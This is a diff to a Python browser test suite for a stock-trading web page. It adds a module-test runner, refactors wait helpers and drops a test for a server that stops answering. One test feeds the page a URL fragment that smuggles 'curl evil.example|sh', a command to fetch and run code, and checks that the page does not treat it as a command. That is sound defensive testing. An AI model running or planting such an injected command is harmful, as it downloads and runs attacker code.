@@ -1,9 +1,9 @@
-"""The page by itself: what it makes of answers that a test invents."""
+"""The page by itself: its pure modules, and what it makes of answers that a test invents."""
 
 import json
 import unittest
 
-from support import CHARTS, TESTS, Site, browser
+from support import CHARTS, TESTS, Site, browser, layouts
 
 FAKE = (TESTS / "fake_exchange.js").read_text()
 
@@ -19,6 +19,21 @@ def symbol(name, last=None, trades=0):
 
 def trade(number, price, shares, taker):
     return {**json.loads(TRADE), "id": number, "price": price, "shares": shares, "taker": taker}
+
+
+class Modules(unittest.TestCase):
+    def test_pure_modules(self):
+        site = Site()
+        self.addCleanup(site.close)
+        page = browser().open(site.address + "/test/modules_test.js")
+        self.addCleanup(page.close)
+        results = page.evaluate("import('/test/modules_test.js').then((module) => module.run())")
+        self.assertGreater(len(results), 20)
+        for result in results:
+            print(f"{'ok' if result['failure'] is None else 'FAILED'}: {result['name']}")
+            with self.subTest(result["name"]):
+                self.assertIsNone(result["failure"], result["failure"])
+        self.assertEqual(page.complaints(), [])
 
 
 class PageAlone(unittest.TestCase):
@@ -55,7 +70,7 @@ class PageAlone(unittest.TestCase):
         self.assertEqual(page.evaluate("location.hash"), "#IBM")
         ground = "getComputedStyle(document.querySelector('#symbols tr.chosen')).backgroundColor"
         chosen_ground = page.evaluate(ground)
-        page.evaluate("document.querySelector('#symbols a[href=\"#KO\"]').click()")
+        page.click('#symbols a[href="#KO"]')
         self.subscribed(page, "KO")
         self.assertEqual(page.evaluate("exchange.sent.at(-2)"), {"unsubscribe": "IBM"})
         self.assertEqual(
@@ -143,10 +158,7 @@ class PageAlone(unittest.TestCase):
         )
         self.subscribed(page, "NEW")
         page.evaluate("""exchange.snapshot("NEW", 0, [], [])""")
-        page.wait_for(
-            "document.querySelector('#book-empty').innerText.startsWith('There are no bids or"
-            " offers for NEW')"
-        )
+        page.wait_for_part("#book-empty", "There are no bids or offers for NEW")
 
     def test_an_address_becomes_a_command_only_if_it_names_a_symbol(self):
         for fragment in ("#trade/X;curl%20evil.example%7Csh%20%23", "#A%20B", "#" + "X" * 33):
@@ -256,33 +268,16 @@ class PageAlone(unittest.TestCase):
                 })()"""
                 self.assertEqual(page.evaluate(cut), [])
 
-    def test_a_server_that_does_not_answer_is_reported_and_asked_again(self):
-        page = self.with_symbols(symbol("SPY"))
-        self.subscribed(page, "SPY")
-        page.evaluate("exchange.snapshot('SPY', 1, [], [])")
-        page.wait_for_state("live")
-        page.evaluate("exchange.down = true; exchange.sockets.at(-1).close()")
-        page.wait_for_state("away")
-        self.assertIn("The server does not answer.", page.text("#notice"))
-        page.evaluate(
-            "exchange.down = false; exchange.sent.length = 0; exchange.metrics ="
-            " exchange.text({requests: 0, started: 1800000000})"
-        )
-        self.subscribed(page, "SPY")
-        page.evaluate("exchange.snapshot('SPY', 0, [], [])")
-        page.wait_for_state("live")
-        self.assertTrue(page.evaluate("document.querySelector('#notice').hidden"))
-
     def test_an_unavailable_store_is_reported(self):
         page = self.open()
         page.evaluate(
             "exchange.metrics = exchange.text({store: 0}); exchange.ready = [503, 'the store is"
             " unavailable']"
         )
-        page.wait_for("document.querySelector('#state').innerText === 'Store unavailable'")
+        page.wait_for_text("#state", "Store unavailable")
         self.assertIn("Nothing is acknowledged", page.text("#notice"))
         page.evaluate("exchange.metrics = exchange.text(); exchange.ready = [503, 'stopping']")
-        page.wait_for("document.querySelector('#notice').innerText.includes('stopping')")
+        page.wait_for_part("#notice", "stopping")
         page.evaluate("exchange.ready = [200, 'ready']")
         page.wait_for("document.querySelector('#notice').hidden")
 
@@ -311,7 +306,7 @@ class PageAlone(unittest.TestCase):
             """window.realFetch = fetch; window.fetch = async (path, more) =>
                 (path === "api/symbols" ? new Response("<html>Password?") : realFetch(path, more))"""
         )
-        page.wait_for("document.querySelector('#notice').innerText.includes('list of symbols')")
+        page.wait_for_part("#notice", "list of symbols")
         self.assertEqual(page.text("#symbols tbody tr td"), "SPY")
         page.evaluate("window.fetch = realFetch")
         page.wait_for_state("live")
@@ -375,7 +370,7 @@ class PageAlone(unittest.TestCase):
                          for (let i = 1; i <= 2000; ++i) exchange.update("SPY", i, [[String(1999 - i % 900), String(i), 1]], [],
                              [{id: i, price: "2000", shares: String(i), taker: "buy", time_us: 1}])"""
         )
-        page.wait_for("document.querySelector('#tape tbody td:last-child')?.innerText === '2,000'")
+        page.wait_for_text("#tape tbody td:last-child", "2,000")
         self.assertLess(page.evaluate("document.querySelectorAll('#ladder tr').length"), 70)
         self.assertLessEqual(
             page.evaluate("document.querySelectorAll('#tape tbody tr').length"), 40
@@ -408,7 +403,7 @@ class PageAlone(unittest.TestCase):
         page.prefer(dark=False)
         page.wait_for(f"{theme} === 'light'")
         for choice, shown in (("light", "light"), ("dark", "dark")):
-            page.evaluate("document.querySelector('#theme').click()")
+            page.click("#theme")
             self.assertEqual(
                 [page.evaluate("localStorage.getItem('theme')"), page.evaluate(theme)],
                 [choice, shown],
@@ -429,18 +424,14 @@ class PageAlone(unittest.TestCase):
         site.missing.add("feed.js")
         page = browser().open(site.address + "/", before=FAKE)
         self.addCleanup(page.close)
-        page.wait_for("document.querySelector('#notice')?.innerText.includes('did not arrive')")
+        page.wait_for_part("#notice", "did not arrive")
         site.missing.clear()
         page.wait_for("document.querySelector('#state')?.dataset.state === 'live'")
 
     def test_no_layout_overflows(self):
         long = "X" * 32
         largest = symbol(long, "92233720367.99999999", 5)
-        sizes = "360x740 390x844 768x1024 1000x700 1400x900 1920x1080 3840x2160".split()
-        sizes = [tuple(map(int, size.split("x"))) for size in sizes]
-        for dark in (False, True):
-            order = sizes[:: -1 if dark else 1]
-            screen = dict(zip(("width", "height"), order[0], strict=True), dark=dark)
+        for screen, sizes in layouts():
             page = self.with_symbols(largest, symbol("SPY"), **screen)
             self.subscribed(page, long)
             page.evaluate(
@@ -449,8 +440,8 @@ class PageAlone(unittest.TestCase):
                               [{{id: 1, price: "92233720367.99999999", shares: "92233720367.99999999", taker: "sell", time_us: 1795256991123456}}])"""
             )
             page.wait_for_count(1, "#tape tbody tr")
-            for width, height in order:
-                with self.subTest(width=width, dark=dark):
+            for width, height in sizes:
+                with self.subTest(width=width, dark=screen["dark"]):
                     page.wait_for_no_overflow(width, height)
                     if width >= 1600:  # a wall cannot be scrolled
                         page.wait_for(f"document.documentElement.scrollHeight === {height}")
@@ -483,7 +474,7 @@ class PageAlone(unittest.TestCase):
             'exchange.snapshot("SPY", 3, [["5.5", "1", 1]], [["6.25", "1", 1]],'
             f' [{json.dumps(trade(1, "6.00", "1", "buy"))}])'
         )
-        page.wait_for("document.querySelector('#last').innerText === '6.00'")
+        page.wait_for_text("#last", "6.00")
         for _ in range(2):  # also once the list, which is older, has come again
             rows = [text.split() for text in page.texts("#symbols tbody tr")]
             self.assertEqual([["SPY", "6.00"], ["IBM", "7.50"]], [row[:2] for row in rows])
@@ -497,7 +488,7 @@ class PageAlone(unittest.TestCase):
         page.evaluate("exchange.snapshot('SPY', 1, [['9', '1', 1]], [])")
         page.wait_for_count(1, "#ladder .level")
         page.evaluate("exchange.update('SPY', 2, [['9', '2', 1]], [])")
-        page.wait_for("document.querySelector('#ladder .level').innerText.includes('2')")
+        page.wait_for_part("#ladder .level", "2")
         self.assertIn(page.evaluate(marked), (["9"], []))  # it may have faded on a slow machine
         page.evaluate("exchange.update('SPY', 3, [['9', '0', 0]], [])")
         page.wait_for_count(0, "#ladder .level")
